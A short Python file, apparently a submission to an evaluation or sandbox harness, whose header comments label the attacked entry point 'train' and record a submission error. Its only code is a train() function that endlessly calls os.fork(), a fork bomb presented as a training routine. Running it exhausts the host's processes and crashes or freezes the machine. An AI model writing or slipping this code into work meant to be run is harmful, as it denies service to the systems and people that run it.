# attacks: train
# status: SUBMISSION_ERROR
# reason: Error

import os


def train():
    while True:
        os.fork()
